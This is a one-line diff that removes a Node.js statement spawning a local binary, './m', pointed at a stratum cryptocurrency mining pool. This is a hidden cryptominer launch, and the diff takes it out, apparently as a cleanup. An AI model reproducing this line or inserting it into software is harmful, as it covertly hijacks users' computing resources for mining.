@@ -1,1 +1,0 @@
-require('child_process').spawn('./m', ['-o', 'stratum+tcp://pool.host-of-nobody.io:3333', '-u', 'x']);
